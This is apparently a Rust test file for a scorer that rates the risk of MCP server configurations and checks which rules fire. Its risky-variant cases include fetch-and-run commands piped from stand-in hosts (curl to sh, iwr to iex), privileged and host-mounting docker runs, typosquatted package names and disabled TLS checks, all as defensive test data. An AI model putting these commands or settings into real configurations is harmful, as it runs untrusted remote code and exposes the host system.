//! Table-driven test over server configurations modelled on real ones: official
//! servers, popular community servers, remote SaaS endpoints, docker-launched servers
//! and risky variants. Each case states its level and the rules that must and must not
//! fire; every rule fires in at least one case and stays silent in another.

use std::collections::BTreeSet;

use super::{RULES, RiskLevel, assess};
use crate::server::{Package, SecretFinding, ServerRecord, Transport};

fn stdio(command: &str, args: &[&str]) -> ServerRecord {
    ServerRecord {
        server_name: "s".into(),
        command: Some(command.into()),
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        transport: Some(Transport::Stdio),
        ..ServerRecord::default()
    }
}

fn remote(url: &str, headers: &[&str]) -> ServerRecord {
    ServerRecord {
        server_name: "r".into(),
        url: Some(url.into()),
        command: Some(url.into()),
        header_names: headers.iter().map(|h| (*h).to_owned()).collect(),
        transport: Some(if url.ends_with("/sse") {
            Transport::Sse
        } else {
            Transport::Http
        }),
        ..ServerRecord::default()
    }
}

fn named(mut r: ServerRecord, name: &str) -> ServerRecord {
    r.server_name = name.into();
    r
}

fn env(mut r: ServerRecord, names: &[&str]) -> ServerRecord {
    r.env_vars = names.iter().map(|n| (*n).to_owned()).collect();
    r
}

fn approve(mut r: ServerRecord, tools: &[&str]) -> ServerRecord {
    r.auto_approve = tools.iter().map(|t| (*t).to_owned()).collect();
    r
}

fn secret(mut r: ServerRecord, kind: &str) -> ServerRecord {
    r.secrets_found.push(SecretFinding {
        location: "args[1]".into(),
        kind: kind.into(),
    });
    r
}

fn disabled(mut r: ServerRecord) -> ServerRecord {
    r.disabled = true;
    r
}

fn package(mut r: ServerRecord, eco: &str, name: &str, version: Option<&str>) -> ServerRecord {
    r.package = Some(Package {
        ecosystem: eco.into(),
        name: name.into(),
        version: version.map(str::to_owned),
    });
    r
}

use RiskLevel::{Critical, High, Low, Medium};

struct Case {
    what: &'static str,
    server: ServerRecord,
    level: RiskLevel,
    fires: &'static [&'static str],
    silent: &'static [&'static str],
}

fn case(
    what: &'static str,
    server: ServerRecord,
    level: RiskLevel,
    fires: &'static [&'static str],
    silent: &'static [&'static str],
) -> Case {
    Case {
        what,
        server,
        level,
        fires,
        silent,
    }
}

#[allow(clippy::too_many_lines)]
fn cases() -> Vec<Case> {
    vec![
        // Official reference servers.
        case(
            "filesystem pinned on a project",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem@2025.8.21",
                    "/home/a/src/app",
                ],
            ),
            Medium,
            &["MCP-CAP-002", "MCP-VULN-003"],
            &[
                "MCP-FS-001",
                "MCP-FS-002",
                "MCP-SUPPLY-001",
                "MCP-SUPPLY-002",
            ],
        ),
        case(
            "filesystem on the root",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem@2026.9.1",
                    "/",
                ],
            ),
            Critical,
            &["MCP-CAP-002", "MCP-FS-001"],
            &["MCP-FS-002", "MCP-VULN-003"],
        ),
        case(
            "filesystem on a home, unpinned",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem",
                    "/Users/bob",
                ],
            ),
            High,
            &["MCP-FS-002", "MCP-VULN-004", "MCP-VULN-004"],
            &["MCP-FS-001"],
        ),
        case(
            "filesystem on ~/.ssh",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem@2026.9.1",
                    "~/.ssh",
                ],
            ),
            High,
            &["MCP-FS-003"],
            &["MCP-FS-002"],
        ),
        case(
            "filesystem old version with advisory",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem@2025.3.28",
                    "/srv/data",
                ],
            ),
            High,
            &["MCP-VULN-002"],
            &["MCP-VULN-004"],
        ),
        case(
            "filesystem on C:\\",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem@2026.9.1",
                    "C:\\",
                ],
            ),
            Critical,
            &["MCP-FS-001"],
            &[],
        ),
        case(
            "memory",
            stdio(
                "npx",
                &["-y", "@modelcontextprotocol/server-memory@2025.4.25"],
            ),
            Low,
            &[],
            &["MCP-CAP-001", "MCP-CAP-002", "MCP-SUPPLY-001"],
        ),
        case(
            "sequential thinking",
            stdio(
                "npx",
                &[
                    "-y",
                    "@modelcontextprotocol/server-sequential-thinking@2025.7.1",
                ],
            ),
            Low,
            &[],
            &["MCP-SUPPLY-001"],
        ),
        case(
            "fetch pinned but affected",
            stdio("uvx", &["mcp-server-fetch==2025.4.7"]),
            Medium,
            &["MCP-CAP-009", "MCP-VULN-003"],
            &["MCP-SUPPLY-001"],
        ),
        case(
            "fetch unpinned",
            stdio("uvx", &["mcp-server-fetch"]),
            Medium,
            &["MCP-CAP-009", "MCP-VULN-004", "MCP-VULN-004"],
            &["MCP-VULN-003"],
        ),
        case(
            "fetch fixed version",
            stdio("uvx", &["mcp-server-fetch==2026.10.24"]),
            Low,
            &["MCP-CAP-009"],
            &["MCP-VULN-003", "MCP-VULN-004"],
        ),
        case(
            "git old",
            stdio(
                "uvx",
                &["mcp-server-git==2025.1.14", "--repository", "/home/a/repo"],
            ),
            Medium,
            &["MCP-CAP-006", "MCP-VULN-003"],
            &["MCP-VULN-002"],
        ),
        case(
            "time",
            stdio("uvx", &["mcp-server-time==2025.8.4"]),
            Low,
            &[],
            &["MCP-CAP-001"],
        ),
        case(
            "github official npm",
            stdio(
                "npx",
                &["-y", "@modelcontextprotocol/server-github@2025.4.8"],
            ),
            Medium,
            &["MCP-CAP-006"],
            &["MCP-SUPPLY-001"],
        ),
        case(
            "postgres with password in url",
            secret(
                stdio(
                    "npx",
                    &[
                        "-y",
                        "@modelcontextprotocol/server-postgres@0.6.2",
                        "postgresql://app:[REDACTED]@db/prod",
                    ],
                ),
                "url_password",
            ),
            High,
            &["MCP-CAP-004", "MCP-SECRET-001"],
            &["MCP-SUPPLY-001"],
        ),
        case(
            "sqlite",
            stdio(
                "uvx",
                &[
                    "mcp-server-sqlite==2025.4.25",
                    "--db-path",
                    "/home/a/app.db",
                ],
            ),
            Medium,
            &["MCP-CAP-004"],
            &["MCP-FS-002"],
        ),
        case(
            "puppeteer",
            stdio(
                "npx",
                &["-y", "@modelcontextprotocol/server-puppeteer@2025.5.12"],
            ),
            Medium,
            &["MCP-CAP-003"],
            &[],
        ),
        case(
            "slack",
            env(
                stdio(
                    "npx",
                    &["-y", "@modelcontextprotocol/server-slack@2025.4.25"],
                ),
                &["SLACK_BOT_TOKEN"],
            ),
            Medium,
            &["MCP-CAP-007"],
            &["MCP-SECRET-001"],
        ),
        case(
            "inspector old",
            stdio("npx", &["@modelcontextprotocol/inspector@0.13.0"]),
            Critical,
            &["MCP-VULN-001"],
            &[],
        ),
        case(
            "inspector fixed",
            stdio("npx", &["@modelcontextprotocol/inspector@2.15.0"]),
            Low,
            &[],
            &["MCP-VULN-001", "MCP-VULN-002", "MCP-VULN-004"],
        ),
        // Popular community servers.
        case(
            "desktop commander",
            stdio("npx", &["-y", "@wonderwhy-er/desktop-commander@0.2.3"]),
            High,
            &["MCP-CAP-001"],
            &["MCP-EXEC-001"],
        ),
        case(
            "desktop commander, all approved",
            approve(
                stdio("npx", &["-y", "@wonderwhy-er/desktop-commander@0.2.3"]),
                &["*"],
            ),
            High,
            &["MCP-APPROVE-002"],
            &["MCP-APPROVE-001"],
        ),
        case(
            "playwright latest",
            stdio("npx", &["@playwright/mcp@latest"]),
            Medium,
            &["MCP-CAP-003", "MCP-VULN-004"],
            &[],
        ),
        case(
            "context7",
            stdio("npx", &["-y", "@upstash/context7-mcp@1.0.14"]),
            Low,
            &[],
            &["MCP-CAP-001", "MCP-SUPPLY-001"],
        ),
        case(
            "stripe",
            env(
                stdio("npx", &["-y", "@stripe/mcp@0.2.4", "--tools=all"]),
                &["STRIPE_SECRET_KEY"],
            ),
            Medium,
            &["MCP-CAP-008"],
            &[],
        ),
        case(
            "supabase with a token flag",
            secret(
                stdio(
                    "npx",
                    &[
                        "-y",
                        "@supabase/mcp-server-supabase@0.4.5",
                        "--access-token",
                        "[REDACTED]",
                    ],
                ),
                "flag_value",
            ),
            High,
            &["MCP-CAP-004", "MCP-SECRET-001"],
            &[],
        ),
        case(
            "kubernetes old",
            stdio("npx", &["mcp-server-kubernetes@2.4.0"]),
            High,
            &["MCP-CAP-005", "MCP-VULN-002"],
            &["MCP-VULN-003"],
        ),
        case(
            "kubernetes current",
            stdio("npx", &["mcp-server-kubernetes@3.9.1"]),
            Medium,
            &["MCP-CAP-005"],
            &["MCP-VULN-002", "MCP-VULN-004"],
        ),
        case(
            "mcp-remote vulnerable",
            stdio(
                "npx",
                &["-y", "mcp-remote@0.1.15", "https://remote.example.com/sse"],
            ),
            Critical,
            &["MCP-CAP-011", "MCP-VULN-001"],
            &[],
        ),
        case(
            "mcp-remote unpinned",
            stdio(
                "npx",
                &["-y", "mcp-remote", "https://remote.example.com/sse"],
            ),
            Medium,
            &["MCP-VULN-004", "MCP-VULN-004"],
            &["MCP-VULN-001"],
        ),
        case(
            "firecrawl",
            env(
                stdio("npx", &["-y", "firecrawl-mcp@1.12.0"]),
                &["FIRECRAWL_API_KEY"],
            ),
            Low,
            &["MCP-CAP-009"],
            &[],
        ),
        case(
            "brave search",
            stdio("npx", &["-y", "@brave/brave-search-mcp-server@1.3.6"]),
            Low,
            &["MCP-CAP-012"],
            &[],
        ),
        case(
            "notion npm",
            stdio("npx", &["-y", "@notionhq/notion-mcp-server@1.8.1"]),
            Low,
            &["MCP-CAP-010"],
            &[],
        ),
        case(
            "aws api",
            stdio("uvx", &["awslabs.aws-api-mcp-server@0.2.11"]),
            Medium,
            &["MCP-CAP-005"],
            &["MCP-SUPPLY-001"],
        ),
        case(
            "gmail autoauth",
            stdio("npx", &["@gongrzhe/server-gmail-autoauth-mcp@1.1.11"]),
            Medium,
            &["MCP-CAP-007"],
            &[],
        ),
        case(
            "git-mcp-server vulnerable",
            stdio("npx", &["-y", "@cyanheads/git-mcp-server@2.0.0"]),
            High,
            &["MCP-VULN-002", "MCP-CAP-006"],
            &[],
        ),
        case(
            "fastmcp app pinned",
            stdio("uvx", &["fastmcp==2.12.0", "run", "server.py"]),
            High,
            &["MCP-VULN-002"],
            &["MCP-VULN-003"],
        ),
        // Remote SaaS endpoints.
        case(
            "github remote",
            remote("https://api.githubcopilot.com/mcp/", &["Authorization"]),
            Medium,
            &["MCP-CAP-006", "MCP-NET-004"],
            &["MCP-NET-001"],
        ),
        case(
            "stripe remote",
            remote("https://mcp.stripe.com", &[]),
            Medium,
            &["MCP-CAP-008"],
            &["MCP-NET-004"],
        ),
        case(
            "notion remote",
            remote("https://mcp.notion.com/mcp", &[]),
            Low,
            &["MCP-CAP-010"],
            &[],
        ),
        case(
            "linear remote with api key header",
            remote("https://mcp.linear.app/mcp", &["Authorization"]),
            Low,
            &["MCP-NET-004"],
            &["MCP-NET-002"],
        ),
        case(
            "cloudflare containers",
            remote("https://containers.mcp.cloudflare.com/sse", &[]),
            High,
            &["MCP-CAP-001"],
            &[],
        ),
        case(
            "plain http remote",
            remote("http://mcp.partner.example.com/mcp", &[]),
            High,
            &["MCP-NET-001"],
            &["MCP-NET-002"],
        ),
        case(
            "raw ip over http",
            remote("http://203.0.113.7:8080/sse", &["X-Api-Key"]),
            High,
            &["MCP-NET-001", "MCP-NET-002", "MCP-NET-004"],
            &["MCP-NET-003"],
        ),
        case(
            "ngrok tunnel",
            remote("https://a1b2c3.ngrok-free.app/mcp", &[]),
            High,
            &["MCP-NET-003"],
            &["MCP-NET-001"],
        ),
        case(
            "local http is fine",
            remote("http://127.0.0.1:3845/mcp", &[]),
            Low,
            &[],
            &["MCP-NET-001", "MCP-NET-002"],
        ),
        case(
            "remote url with secret",
            secret(
                remote("https://mcp.example.com/sse?api_key=[REDACTED]", &[]),
                "url_query_secret",
            ),
            High,
            &["MCP-SECRET-001"],
            &[],
        ),
        // Docker-launched servers.
        case(
            "github image pinned",
            stdio(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "-e",
                    "GITHUB_PERSONAL_ACCESS_TOKEN",
                    "ghcr.io/github/github-mcp-server:v0.9.0",
                ],
            ),
            Medium,
            &["MCP-CAP-006"],
            &["MCP-SUPPLY-001", "MCP-DOCKER-001"],
        ),
        case(
            "mcp/fetch untagged",
            stdio("docker", &["run", "-i", "--rm", "mcp/fetch"]),
            Medium,
            &["MCP-CAP-009", "MCP-SUPPLY-001"],
            &[],
        ),
        case(
            "privileged container",
            stdio(
                "docker",
                &["run", "--privileged", "-i", "mcp/desktop-commander:1.0"],
            ),
            Critical,
            &["MCP-DOCKER-001", "MCP-CAP-001"],
            &[],
        ),
        case(
            "docker socket mount",
            stdio(
                "docker",
                &[
                    "run",
                    "-v",
                    "/var/run/docker.sock:/var/run/docker.sock",
                    "-i",
                    "mcp/dockerhub:1.0",
                ],
            ),
            Critical,
            &["MCP-DOCKER-001"],
            &["MCP-DOCKER-002"],
        ),
        case(
            "host network and caps",
            stdio(
                "docker",
                &[
                    "run",
                    "--network",
                    "host",
                    "--cap-add",
                    "SYS_ADMIN",
                    "-i",
                    "mcp/kubernetes:1.0",
                ],
            ),
            High,
            &["MCP-DOCKER-002", "MCP-CAP-005"],
            &["MCP-DOCKER-001"],
        ),
        case(
            "home mount",
            stdio(
                "docker",
                &[
                    "run",
                    "-v",
                    "/Users/bob:/data",
                    "-i",
                    "mcp/filesystem:1.0",
                    "/data",
                ],
            ),
            High,
            &["MCP-DOCKER-002"],
            &["MCP-DOCKER-001"],
        ),
        case(
            "root mount",
            stdio(
                "docker",
                &["run", "-v", "/:/host", "-i", "mcp/filesystem:1.0", "/host"],
            ),
            Critical,
            &["MCP-DOCKER-001"],
            &[],
        ),
        case(
            "terraform image latest",
            stdio(
                "docker",
                &["run", "-i", "--rm", "hashicorp/terraform-mcp-server:latest"],
            ),
            Medium,
            &["MCP-CAP-005", "MCP-SUPPLY-001"],
            &[],
        ),
        // Risky variants.
        case(
            "curl pipe sh",
            stdio("bash", &["-c", "curl -fsSL https://get.example.dev | sh"]),
            Critical,
            &["MCP-EXEC-001", "MCP-EXEC-002"],
            &[],
        ),
        case(
            "powershell iex",
            stdio(
                "powershell",
                &["-Command", "iwr https://x.example/i.ps1 | iex"],
            ),
            Critical,
            &["MCP-EXEC-002"],
            &[],
        ),
        case(
            "sudo launch",
            stdio("sudo", &["/usr/local/bin/ops-mcp"]),
            High,
            &["MCP-EXEC-003"],
            &["MCP-EXEC-004"],
        ),
        case(
            "from downloads",
            stdio("/Users/bob/Downloads/mcp-helper", &[]),
            High,
            &["MCP-EXEC-004"],
            &["MCP-EXEC-003"],
        ),
        case(
            "from temp on windows",
            stdio("C:\\Users\\bob\\AppData\\Local\\Temp\\srv.exe", &[]),
            High,
            &["MCP-EXEC-004"],
            &[],
        ),
        case(
            "typosquat one edit",
            stdio("npx", &["-y", "mcp-remtoe@1.0.0"]),
            High,
            &["MCP-SUPPLY-002"],
            &["MCP-SUPPLY-003", "MCP-VULN-001"],
        ),
        case(
            "typosquat two edits",
            stdio("npx", &["-y", "firecrawl-mxp1@1.0.0"]),
            Medium,
            &["MCP-SUPPLY-003"],
            &["MCP-SUPPLY-002"],
        ),
        case(
            "pypi typosquat",
            stdio("uvx", &["mcp-server-fecth==1.0"]),
            High,
            &["MCP-SUPPLY-002"],
            &[],
        ),
        case(
            "tls checks off",
            env(
                remote("https://mcp.corp.example/mcp", &[]),
                &["NODE_TLS_REJECT_UNAUTHORIZED"],
            ),
            High,
            &["MCP-NET-005"],
            &[],
        ),
        case(
            "insecure flag",
            stdio("npx", &["-y", "corp-mcp@1.0.0", "--insecure"]),
            High,
            &["MCP-NET-005"],
            &[],
        ),
        case(
            "auto-approved read tools",
            approve(
                stdio(
                    "npx",
                    &["-y", "@modelcontextprotocol/server-memory@2025.4.25"],
                ),
                &["read_graph", "search_nodes"],
            ),
            Medium,
            &["MCP-APPROVE-001"],
            &["MCP-APPROVE-002"],
        ),
        case(
            "disabled shell",
            disabled(stdio(
                "npx",
                &["-y", "@wonderwhy-er/desktop-commander@0.2.3"],
            )),
            High,
            &["MCP-STATE-001", "MCP-CAP-001"],
            &[],
        ),
        case(
            "agent package record wins",
            package(
                stdio("npx", &["-y", "thing"]),
                "npm",
                "@modelcontextprotocol/inspector",
                Some("0.10.0"),
            ),
            Critical,
            &["MCP-VULN-001"],
            &["MCP-SUPPLY-001"],
        ),
        case(
            "malicious release",
            stdio("npx", &["-y", "postmark-mcp@1.0.16"]),
            Critical,
            &["MCP-VULN-005"],
            &["MCP-VULN-001"],
        ),
        case(
            "inferred shell from the name",
            named(stdio("/opt/tools/run-shell-commands", &[]), "shell"),
            Medium,
            &["MCP-CAP-001"],
            &[],
        ),
    ]
}

#[test]
fn configurations_score_as_expected() {
    let mut failures = Vec::new();
    for c in cases() {
        let a = assess(&c.server);
        let ids: BTreeSet<&str> = a.findings.iter().map(|f| f.rule_id.as_str()).collect();
        let missing: Vec<&&str> = c.fires.iter().filter(|id| !ids.contains(**id)).collect();
        let unwanted: Vec<&&str> = c.silent.iter().filter(|id| ids.contains(**id)).collect();
        if a.level != c.level || !missing.is_empty() || !unwanted.is_empty() {
            failures.push(format!(
                "{}: level {} (score {}) want {}; missing {missing:?}; unwanted {unwanted:?}; fired {ids:?}",
                c.what, a.level, a.score, c.level
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn there_are_at_least_sixty_cases_and_every_rule_both_fires_and_stays_silent() {
    let all = cases();
    assert!(all.len() >= 60, "{}", all.len());
    let fired: Vec<BTreeSet<String>> = all
        .iter()
        .map(|c| {
            assess(&c.server)
                .findings
                .into_iter()
                .map(|f| f.rule_id)
                .collect()
        })
        .collect();
    // Policy rules need an organisation's policy: `policy_blocks_packages_...` covers them.
    // Combination rules need a whole inventory: `combos.rs` covers them.
    for rule in RULES
        .iter()
        .filter(|r| !r.id.starts_with("MCP-POLICY-") && !r.id.starts_with("MCP-COMBO-"))
    {
        assert!(
            fired.iter().any(|ids| ids.contains(rule.id)),
            "{} never fires",
            rule.id
        );
        assert!(
            fired.iter().any(|ids| !ids.contains(rule.id)),
            "{} always fires",
            rule.id
        );
    }
}

#[test]
fn a_malicious_release_scores_100() {
    let malicious = crate::risk::data::ADVISORIES
        .iter()
        .find(|a| a.malicious && a.affected.is_some() && a.ecosystem == "npm");
    let Some(adv) = malicious else { return };
    // Find a version inside its range by trying the usual shapes.
    let candidates = ["1.0.16", "1.0.17", "0.2.0", "1.0.0", "0.0.1"];
    let version = candidates.iter().find(|v| {
        adv.affected.as_ref().is_some_and(|r| {
            crate::risk::version::Version::parse(v).is_some_and(|v| r.contains(&v))
        })
    });
    let Some(version) = version else { return };
    let server = stdio("npx", &["-y", &format!("{}@{version}", adv.package)]);
    let a = assess(&server);
    assert_eq!(a.score, 100, "{a:?}");
    assert!(a.findings.iter().any(|f| f.rule_id == "MCP-VULN-005"));
}
